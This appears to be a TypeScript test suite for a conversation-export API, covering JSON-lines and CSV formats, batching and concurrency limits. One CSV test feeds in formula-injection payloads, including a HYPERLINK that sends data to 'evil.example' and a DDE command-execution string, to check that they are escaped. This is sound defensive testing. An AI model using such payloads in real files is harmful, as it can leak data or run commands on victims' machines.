/** Conversations are exported as JSON lines or CSV, without formulas for spreadsheets, and streamed. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import {
  CSV_COLUMNS,
  EXPORTS_AT_ONCE,
  exportConversations,
} from '../../../src/contract/conversation-exports.ts';
import { createConversation, endConversation } from '../../../src/contract/conversations.ts';
import { csvRecord } from '../../../src/runtime/csv-records.ts';
import { until } from '../until.ts';
import { ALICE, BOB, openWorld, type World } from '../world.ts';

let world: World;
before(async () => {
  world = await openWorld();
});
after(() => world.close());

async function converse(pal_id: string, lines: string[], name = 'Call'): Promise<string> {
  const { conversation_id } = (
    await world.call(createConversation, {
      credential: ALICE,
      body: { pal_id, conversation_name: name, properties: { participant_name: 'Ada' } },
    })
  ).result;
  if (lines.length > 0)
    await world.service.context.store.db
      .insertInto('transcript_lines')
      .values(
        lines.map((content, position) => ({
          conversation_id,
          position,
          role: position % 2 ? ('assistant' as const) : ('user' as const),
          content,
          began_at: world.clock.now() / 1000 + position,
          duration: 1,
          inference_id: null,
        })),
      )
      .execute();
  await world.call(endConversation, { credential: ALICE, params: { conversation_id } });
  await world.service.context.jobs.idle();
  return conversation_id;
}

const read = async (query: Record<string, string>, credential = ALICE) =>
  (await world.call(exportConversations, { credential, query })).result;
const lines = async (query: Record<string, string>, credential = ALICE) =>
  (await read(query, credential))
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as { conversation_id: string; transcript: { content: string }[] });

test('JSON lines contain the fields of a read and the transcript, and use the filters of the list', async () => {
  const pal_id = await world.pal();
  const firstConversation = await converse(pal_id, ['Hello.\nDo you sell "bikes"?', 'Yes, we do.']);
  world.clock.move(1);
  const secondCall = await converse(pal_id, []);
  const allEntries = await lines({ pal_id, sort: 'asc' });
  assert.deepEqual(
    allEntries.map(({ conversation_id, transcript }) => [
      conversation_id,
      transcript.map(({ content }) => content),
    ]),
    [
      [firstConversation, ['Hello.\nDo you sell "bikes"?', 'Yes, we do.']],
      [secondCall, []],
    ],
  );
  assert.deepEqual(
    (await lines({ pal_id, search: 'bikes' })).map(({ conversation_id }) => conversation_id),
    [firstConversation],
  );
  assert.deepEqual(await lines({ pal_id }, BOB), []);
  const { answer } = await world.call(exportConversations, { credential: ALICE, query: { pal_id } });
  assert.equal(answer.headers.get('content-type'), 'application/x-ndjson; charset=utf-8');
  assert.match(
    answer.headers.get('content-disposition')!,
    /^attachment; filename="conversations-\d{4}-\d\d-\d\d\.jsonl"$/,
  );
  assert.equal(
    (await world.refusal(exportConversations, { credential: ALICE, query: { format: 'xml' } as never })).code,
    'invalid_request',
  );
});

test('an export of several batches contains each conversation once, in both orders', async () => {
  const pal_id = await world.pal();
  const ids: string[] = [];
  for (let count = 0; count < 120; count++) {
    if (count % 7 === 0) world.clock.move(1);
    ids.push(
      (await world.call(createConversation, { credential: ALICE, body: { pal_id, test_mode: true } })).result
        .conversation_id,
    );
  }
  const exportedIds = (await lines({ pal_id, sort: 'asc' })).map(({ conversation_id }) => conversation_id);
  assert.deepEqual([...exportedIds].sort(), [...ids].sort());
  assert.deepEqual(
    (await lines({ pal_id, sort: 'desc' })).map(({ conversation_id }) => conversation_id),
    [...exportedIds].reverse(),
  );
});

describe('CSV', () => {
  test('has one record for each line, and one for a conversation without lines', async () => {
    const pal_id = await world.pal();
    const firstCall = await converse(pal_id, ['Say "hi", please', 'Hi!\nAgain.'], 'A, B');
    world.clock.move(1);
    const secondCall = await converse(pal_id, []);
    const text = await read({ pal_id, format: 'csv', sort: 'asc' });
    const records = text.split('\r\n');
    assert.equal(records[0], `\ufeff${CSV_COLUMNS.join(',')}`);
    assert.equal(records.length, 5);
    assert.ok(records[1]!.startsWith(`${firstCall},"A, B",ended,`));
    assert.ok(records[1]!.endsWith(',1,0,user,Ada,"Say ""hi"", please"'), records[1]);
    assert.ok(records[2]!.endsWith(',2,1,assistant,,"Hi!\nAgain."'), records[2]);
    assert.ok(
      records[3]!.startsWith(`${secondCall},Call,ended,`) && records[3]!.endsWith(',,,,,'),
      records[3],
    );
  });

  test('escapes cells that a spreadsheet would take as a formula', async () => {
    const pal_id = await world.pal();
    const formulas = [
      '=HYPERLINK("https://evil.example?"&A1)',
      '+1+1',
      '-2+3',
      '@SUM(A1)',
      '\t=1+1',
      '  =1+1',
      '\n=1',
      '＝1+1',
    ];
    await converse(pal_id, formulas, "=cmd|'/C calc'!A0");
    const text = await read({ pal_id, format: 'csv' });
    for (const formula of formulas) assert.ok(text.includes(`'${formula.replaceAll('"', '""')}`), formula);
    assert.ok(text.includes(`,'=cmd|'/C calc'!A0,`));
    assert.equal(csvRecord(['a', 1.5, null, 'a=b', '3-4']), 'a,1.5,,a=b,3-4\r\n');
  });
});

describe('a slow reader', () => {
  const get = async (port: number): Promise<http.IncomingMessage> => {
    const request = http.get({
      port,
      host: '127.0.0.1',
      path: '/v2/conversations/export',
      headers: { 'x-api-key': ALICE },
      agent: false,
    });
    const [answer] = (await once(request, 'response')) as [http.IncomingMessage];
    return answer;
  };

  test('occupies one of two places until it closes, and does not fill the memory', async () => {
    const pal_id = await world.pal();
    for (let count = 0; count < 6; count++)
      await converse(
        pal_id,
        Array.from({ length: 40 }, () => 'x'.repeat(60_000)),
      );
    await world.service.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = world.service.app.server.address() as AddressInfo;
    const reads = await Promise.all(Array.from({ length: EXPORTS_AT_ONCE }, () => get(port)));
    assert.deepEqual(
      reads.map(({ statusCode }) => statusCode),
      [200, 200],
    );
    const refusal = await get(port);
    assert.equal(refusal.statusCode, 429);
    assert.ok(Number(refusal.headers['retry-after']) > 0);
    refusal.resume();
    assert.equal((await lines({}, BOB)).length, 0, 'another account has places of its own');
    for (const answer of reads) answer.destroy();
    await until('a place', async () => {
      const answer = await get(port);
      const isOpen = answer.statusCode === 200;
      answer.destroy();
      return isOpen;
    });
  });
});
